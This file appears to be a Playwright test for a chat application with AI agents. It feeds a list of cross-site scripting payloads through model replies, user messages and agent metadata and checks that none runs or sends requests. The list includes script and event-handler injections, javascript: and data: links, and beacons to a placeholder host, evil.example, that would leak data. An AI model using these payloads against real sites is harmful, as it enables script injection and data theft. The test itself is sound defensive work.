import { expect, test } from 'bun:test';
import type { Page } from 'playwright-core';
import { askingUpstream, startPages } from '../support/start-pages.ts';

const { server, upstream, visit } = await startPages(askingUpstream);

/** Each would set `pwned` or send a request if it were not treated as text. */
const ATTACKS = [
    '<script>pwned=1</script>',
    '<img src=x onerror="pwned=1">',
    '<svg onload="pwned=1"><script>pwned=1</script></svg>',
    '<svg><a xlink:href="javascript:pwned=1"><text>x</text></a></svg>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<details open ontoggle="pwned=1">x</details>',
    '<a href="javascript:pwned=1">x</a>',
    '<form action="http://evil.example"><button>x</button></form>',
    '<style>body{background:url(http://evil.example/style)}</style>',
    '<p style="background:url(http://evil.example/inline)">x</p>',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '[link](javascript:pwned=1)',
    '[link](JaVaScRiPt&colon;pwned=1)',
    '[link](data:text/html,<script>parent.pwned=1</script>)',
    '[link](vbscript:pwned)',
    '[link](//evil.example/x "onmouseover=pwned=1")',
    '[quick](?message=%3Cimg%20src=x%20onerror=pwned=1%3E)',
    '<javascript:pwned=1>',
    '![picture](http://evil.example/picture?secret)',
    '![picture](javascript:pwned=1)',
    '![" onerror="pwned=1](x)',
    '![x](data:image/svg+xml,<svg/onload=pwned=1>)',
    '[reference][1]\n\n[1]: javascript:pwned=1',
    '```"><img src=x onerror=pwned=1>\ncode\n```',
    '```html onclick=pwned=1\n<img src=x onerror=pwned=1>\n```',
    '`<img src=x onerror=pwned=1>`',
    '| <img src=x onerror=pwned=1> |\n| --- |\n| <script>pwned=1</script> |',
    '- [ ] <img src=x onerror=pwned=1>',
    '# <img src=x onerror=pwned=1>',
    '&lt;img src=x onerror=pwned=1&gt;',
    'http://evil.example/"onmouseover="pwned=1',
];

test('no text of a model, a user or a book runs scripts or sends requests to another server (attack 15, 16)', async () => {
    const agentName = await server.createAgent(
        `<img src=x onerror=pwned=1>"'\nMETA IMAGE http://evil.example/face.png\nMETA COLOR red;background:url(http://evil.example/c)\nMETA DESCRIPTION <script>pwned=1</script>\nMETA DISCLAIMER <img src=x onerror=pwned=1>\nMETA INPUT PLACEHOLDER "><img src=x onerror=pwned=1>\nINITIAL MESSAGE <img src=x onerror=pwned=1> [x](javascript:pwned=1)`,
    );
    const { page } = await visit();
    const foreign: string[] = [];
    page.on('request', request => {
        if (!request.url().startsWith(server.url) && !/^(data|blob):/.test(request.url())) foreign.push(request.url());
    });
    page.on('dialog', dialog => void dialog.dismiss());
    const answer = ATTACKS.join('\n\n');
    upstream.reply({ text: ATTACKS.flatMap(attack => [attack.slice(0, 9), attack.slice(9), '\n\n']) });
    await page.goto(server.url);
    await page.getByText('<script>pwned=1</script>').waitFor();
    await page.goto(`${server.url}/agents/${agentName}`);
    await page.getByLabel('Message', { exact: true }).fill(answer);
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Regenerate reply' }).waitFor();
    await touchAll(page);
    await page.reload();
    await page.getByRole('button', { name: 'Regenerate reply' }).waitFor();
    await touchAll(page);

    expect(await page.evaluate('typeof pwned')).toBe('undefined');
    expect(foreign).toEqual([]);
    const text = await page.locator('.message.assistant').last().textContent();
    expect(text).toContain('<img src=x onerror="pwned=1">');
});

/** Checks for executable elements and triggers hover handlers. */
async function touchAll(page: Page): Promise<void> {
    const dangerous = await page.evaluate(`[...document.querySelectorAll('.message *')].filter(element =>
        /^(script|iframe|object|embed|form|style|base|meta|link|math)$/i.test(element.tagName) ||
        [...element.attributes].some(({ name, value }) => /^on/i.test(name) || /^\\s*(javascript|vbscript|data:text)/i.test(value)) ||
        (element.tagName === 'IMG' && !/^data:image/.test(element.src)) ||
        (element.hasAttribute('style'))
    ).map(element => element.outerHTML)`);
    expect(dangerous).toEqual([]);
    const protocols = await page.evaluate(
        "[...new Set([...document.querySelectorAll('.message a[href]')].map(link => link.protocol))]",
    );
    expect(protocols).toEqual(['http:']);
    for (const element of await page.locator('.message a, .message .code').all()) await element.hover();
}
